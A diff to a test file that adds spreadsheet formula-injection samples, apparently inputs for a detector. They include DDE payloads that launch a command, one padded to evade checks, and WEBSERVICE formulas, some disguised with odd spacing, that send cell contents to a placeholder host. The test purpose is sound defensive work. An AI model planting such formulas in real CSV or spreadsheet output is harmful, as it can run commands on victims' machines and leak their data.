@@ -314,6 +314,12 @@ const pairs: Record<string, Pair> = {
       'a;b\n1;=SUM(A1)\n2;=RTD(A1;A2)\n',
       'a;b\n1;=A1&[http://192.0.2.1/a.xls]\n',
       'a,b\n1,=IF(A1,\n2,CALL(A1))\n',
+      'a|b\n=1+cmd |\'/C calc\'!A0\n',
+      `a|b\n=A1+${'0+'.repeat(300)}cmd|'/C calc'!A0\n`,
+      'a,b\n1,"=WEBSERVICE          (""http://192.0.2.1/?q=""&A1)"\n',
+      'a,b\n1,"=WEBSERVICE\u00a0(A1)"\n',
+      'a;b;c\n1;=0+IF(1;WEBSERVICE(A1))\n',
+      'a,b,c\n1,=0+IF(A1,WEBSERVICE(A1))\n',
     ],
   },
   'a contents list of a book that names a shell': {
